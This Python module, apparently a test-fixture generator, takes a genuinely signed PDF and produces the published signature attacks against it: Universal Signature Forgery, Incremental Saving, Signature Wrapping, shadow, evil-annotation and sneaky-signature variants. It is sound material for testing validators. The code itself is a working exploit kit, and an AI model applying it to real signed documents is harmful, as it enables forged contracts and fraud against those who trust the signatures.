"""Published attacks on signed PDFs, made from a true certificate.

Sources: Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019): USF, ISA, SWA; Mainka et al.,
"Shadow Attacks" (NDSS 2021): hide, replace, hide and replace; Rohlmann et al., "Breaking the
Specification" (S&P 2021): evil annotation, sneaky signature.
"""

from __future__ import annotations

import re

_RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")
_CONTENTS = re.compile(rb"/Contents <[0-9A-F]*>")
WORDS = b"BT /F1 20 Tf 100 100 Td (EFFACE) Tj ET"


def _catalog(raw: bytes) -> bytes:
    """The number of the document's catalogue."""
    found = re.search(rb"/Root (\d+) 0 R", raw)
    assert found is not None
    return found[1]


def _page(raw: bytes) -> bytes:
    found = re.search(rb"[\r\n](\d+) 0 obj[^>]{0,200}/Type /Page\b", raw)
    return found[1] if found else b"5"


def _update(raw: bytes, number: bytes, body: bytes, *, table: bool = True) -> bytes:
    """An incremental update that defines one object anew; `table` with its xref."""
    obj = number + b" 0 obj\n" + body + b"\nendobj\n"
    if not table:
        return raw + obj + b"%%EOF\n"
    place, before = len(raw), raw.rindex(b"startxref")
    previous = raw[before:].split()[1]
    return (
        raw
        + obj
        + b"xref\n%s 1\n%010d 00000 n \n" % (number, place)
        + b"trailer\n<< /Size 999 /Root %s 0 R /Prev %s >>\n" % (_catalog(raw), previous)
        + b"startxref\n%d\n%%%%EOF\n" % (place + len(obj))
    )


def _with_range(raw: bytes, text: bytes) -> bytes:
    """Another ByteRange, in the room of the true one where it fits."""
    return _RANGE.sub(lambda old: text.ljust(len(old[0])), raw)


def _wrapped(raw: bytes) -> bytes:
    """SWA: the second part moved on, with something of one's own between the two."""
    found = _RANGE.search(raw)
    assert found is not None
    _, first, second, rest = map(int, found[1].split())
    own = b"999 0 obj\n<< /Length 38 >>\nstream\n" + WORDS + b"\nendstream\nendobj\n"
    moved = b"/ByteRange [0 %d %d %d]" % (first, second + len(own), rest)
    return _with_range(raw[:second] + own + raw[second:], moved)


def attacks(raw: bytes) -> dict[str, bytes]:
    """Each attack's file, by its name."""
    first = _RANGE.search(raw)
    assert first is not None
    words = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(WORDS), WORDS)
    empty = _CONTENTS.sub(b"/Contents <>", raw)
    zeros = _CONTENTS.sub(lambda old: b"/Contents <" + b"0" * (len(old[0]) - 12) + b">", raw)
    page, root = _page(raw), _catalog(raw)
    annotated = b"<< /Type /Page /Annots [ << /Type /Annot /Subtype /FreeText /DA (EFFACE) >> ] >>"
    copied = raw + raw[first.start() - 40 : first.end() + 40] + b"\n%%EOF\n"
    return {
        "USF: no contents": _CONTENTS.sub(b"", raw),
        "USF: empty contents": empty,
        "USF: contents null": _CONTENTS.sub(b"/Contents null", raw),
        "USF: contents of zeros": zeros,
        "USF: no range": _with_range(raw, b""),
        "USF: empty range": _with_range(raw, b"/ByteRange []"),
        "USF: range null": _with_range(raw, b"/ByteRange null"),
        "USF: range of nothing": _with_range(raw, b"/ByteRange [0 0 0 0]"),
        "USF: negative range": _with_range(raw, b"/ByteRange [0 -1 -1 0]"),
        "ISA: with a table": _update(raw, page, words),
        "ISA: without a table": _update(raw, page, words, table=False),
        "ISA: the signature copied": copied,
        "SWA: something between": _wrapped(raw),
        "SWA: a hole at the end": raw + WORDS,
        "shadow: hide": _update(raw, page, b"<< /Type /Page /Contents [] >>"),
        "shadow: replace a font": _update(raw, b"7", b"<< /Type /Font /Subtype /Type3 >>"),
        "shadow: hide and replace": _update(raw, root, b"<< /Type /Catalog /Pages 999 0 R >>"),
        "evil annotation": _update(raw, page, annotated),
        "sneaky signature": _update(raw, b"998", b"<< /FT /Sig /V << /Type /Sig >> >>"),
    }
